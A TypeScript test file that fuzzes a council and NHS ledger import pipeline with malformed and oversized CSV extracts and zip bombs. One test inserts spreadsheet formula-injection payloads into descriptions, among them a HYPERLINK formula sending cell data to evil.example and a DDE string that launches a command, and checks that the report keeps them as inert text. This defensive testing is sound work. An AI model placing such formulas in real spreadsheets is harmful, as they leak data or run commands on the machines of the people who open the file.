// Hostile and broken extracts (issue 8 §4): fast-check cases — the Sheffield extracts mutated,
// extracts generated with known contents, limits met or just missed — each must end in an
// import of exactly the expected lines or a clear, coded rejection, within time and memory, and
// a rejected file must write nothing. Most run through the reader alone (fast); some end to end
// through importBatch on SQLite; the full-scale hostile files (a 100 MB line, a million columns,
// zip bombs) each once. `npm run fuzz -- --cases 100000` runs the same generator at length.
// TANDEM_FUZZ_SEED picks another seed (the default is fixed, so a failure repeats).

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { loadAgreement } from '../src/app/agreements.js';
import { closePeriod } from '../src/app/close.js';
import type { AppContext } from '../src/app/context.js';
import { importBatch } from '../src/app/import-batch.js';
import { writeReportFiles } from '../src/app/report-files.js';
import { periodKey } from '../src/domain/period.js';
import { guardCell } from '../src/report/cell-guard.js';
import { openStore } from '../src/store/open.js';
import type { Store } from '../src/store/types.js';
import { fuzzCases, heavyCases, loadFuzzFixtures, type FuzzCase, type FuzzFixtures } from './support/fuzz-cases.js';
import { quoteField, splitCsvLine } from './support/fuzz-mutate.js';
import { FuzzRunner, type Outcome } from './support/fuzz-run.js';

const SEED = Number(process.env.TANDEM_FUZZ_SEED ?? 8_4_2025);
/** Generous for a loaded 2-core machine: cases take milliseconds; a hang or a leak takes far more. */
const BUDGET = { ms: 10_000, memoryMb: 200 };
/** A full-scale hostile file may take some time to write and hash, but little memory to refuse. */
const heavyBudget = (generator: string) => ({ ms: 60_000, memoryMb: generator.startsWith('shared-string') ? 256 : 64 });

let fixtures: FuzzFixtures;
let runner: FuzzRunner;
let arbitrary: fc.Arbitrary<FuzzCase>;

beforeAll(async () => {
  fixtures = await loadFuzzFixtures();
  runner = new FuzzRunner(fixtures);
  arbitrary = fuzzCases(fixtures);
});

afterAll(() => runner?.dispose());

/** Outcomes by generator and status, to show the mix covered both ends. */
function tally(outcomes: Outcome[]): Map<string, Set<string>> {
  const seen = new Map<string, Set<string>>();
  for (const o of outcomes) seen.set(o.generator, (seen.get(o.generator) ?? new Set()).add(o.status));
  return seen;
}

describe('import fuzz through the reader', () => {
  it('ends 1,200 fuzzed extracts each in an exact import or a clear, coded rejection', async () => {
    const outcomes: Outcome[] = [];
    await fc.assert(
      fc.asyncProperty(arbitrary, async (c) => {
        const outcome = await runner.read(c, BUDGET);
        outcomes.push(outcome);
        expect(outcome.failure, `${c.generator}: ${outcome.failure}`).toBeNull();
      }),
      { numRuns: 1200, seed: SEED },
    );
    const seen = tally(outcomes);
    // every generator ran, and between them both imports and rejections came out
    expect(seen.size).toBeGreaterThanOrEqual(20);
    expect(outcomes.filter((o) => o.status === 'imported').length).toBeGreaterThan(200);
    expect(outcomes.filter((o) => o.status === 'rejected').length).toBeGreaterThan(200);
  });
});

describe('import fuzz end to end on SQLite', () => {
  let dir: string;
  let store: Store;
  let ctx: AppContext;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'tandem-fuzz-db-'));
    store = await openStore(join(dir, 'tandem.db'));
    ctx = { store, actor: 'fuzz', now: () => new Date('2025-07-08T09:00:00Z') };
    await loadAgreement(ctx, fixtures.agreementPath);
  });
  afterAll(async () => {
    await store?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('imports exactly what the reader reads, and a rejected file writes no batch and no audit event', async () => {
    const outcomes: Outcome[] = [];
    await fc.assert(
      fc.asyncProperty(
        arbitrary.filter((c) => c.limits === undefined),
        async (c) => {
          const outcome = await runner.importEndToEnd(c, ctx, BUDGET);
          outcomes.push(outcome);
          expect(outcome.failure, `${c.generator}: ${outcome.failure}`).toBeNull();
        },
      ),
      { numRuns: 80, seed: SEED + 1 },
    );
    expect(outcomes.some((o) => o.status === 'imported')).toBe(true);
    expect(outcomes.some((o) => o.status === 'rejected')).toBe(true);
  });

  it('keeps formulas put in descriptions as text, through the close to the XLSX report', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+SUM(1,2)', '@SUM(A1:A2)', '-2+3', "=cmd|' /C calc'!A0"];
    const council = fixtures.examples.find((e) => e.name === 'scc/2025-26-M01.csv')!;
    const lines = council.bytes.toString('latin1').split('\r\n');
    const column = council.baseline.header.indexOf('Description');
    let next = 0;
    for (let k = 2; k < lines.length && next < hostile.length; k++) {
      const fields = splitCsvLine(lines[k]!);
      if (!/^C4(1|3|4|20[12])/.test(fields[0]!)) continue; // a line the rules map to a scheme: the Lines sheet shows it
      fields[column] = hostile[next++]!;
      lines[k] = fields.map(quoteField).join(',');
    }
    expect(next).toBe(hostile.length);
    const path = join(dir, 'scc-hostile.csv');
    writeFileSync(path, Buffer.from(lines.join('\r\n'), 'latin1'));
    expect((await importBatch(ctx, { ledgerId: 'scc', path })).lines).toBe(council.baseline.lines);
    const nhs = fixtures.examples.find((e) => e.name === 'sccg/2025-26-M01.csv')!;
    writeFileSync(join(dir, 'sccg.csv'), nhs.bytes);
    await importBatch(ctx, { ledgerId: 'sccg', path: join(dir, 'sccg.csv') });
    await closePeriod(ctx, { period: periodKey(2025, 1), allowUnmapped: true });
    const written = await writeReportFiles(ctx, { period: periodKey(2025, 1), formats: ['xlsx'], outDir: join(dir, 'report') });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(written.files[0]!.path);
    const cells: ExcelJS.Cell[] = [];
    book.getWorksheet('Lines')!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    for (const text of hostile) {
      const found = cells.filter((cell) => cell.value === guardCell(text));
      expect(found.length, text).toBe(1);
      expect(found[0]!.formula, text).toBeUndefined();
    }
    expect(cells.some((cell) => cell.formula !== undefined)).toBe(false);
  });
});

describe('full-scale hostile extracts, refused in bounded time and memory', () => {
  for (const c of heavyCases()) {
    it(`${c.generator} ends in ${c.expect.kind === 'reject' ? c.expect.codes.join(' or ') : 'an import'}`, async () => {
      const outcome = await runner.read(c, heavyBudget(c.generator));
      expect(outcome.failure).toBeNull();
    });
  }
});
